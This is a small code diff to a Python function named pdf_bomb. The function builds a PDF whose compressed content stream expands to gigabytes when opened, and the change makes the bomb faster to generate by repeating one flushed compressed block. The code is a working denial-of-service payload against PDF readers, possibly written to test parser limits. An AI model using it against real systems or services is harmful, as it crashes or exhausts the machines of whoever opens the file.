@@ -87,7 +87,8 @@ def pdf_bomb(gigabytes: int = 2) -> bytes:
     made, kept = pikepdf.new(), io.BytesIO()
     made.add_blank_page()
     packer, block = zlib.compressobj(9), b"q Q " * (1 << 20)
-    packed = b"".join(packer.compress(block) for _ in range(gigabytes * 256)) + packer.flush()
+    first, again = (packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
+    packed = first + again * (gigabytes * 256) + packer.flush()
     stream = pikepdf.Stream(made, packed)
     stream.Filter = pikepdf.Name.FlateDecode
     made.pages[0].Contents = made.make_indirect(stream)
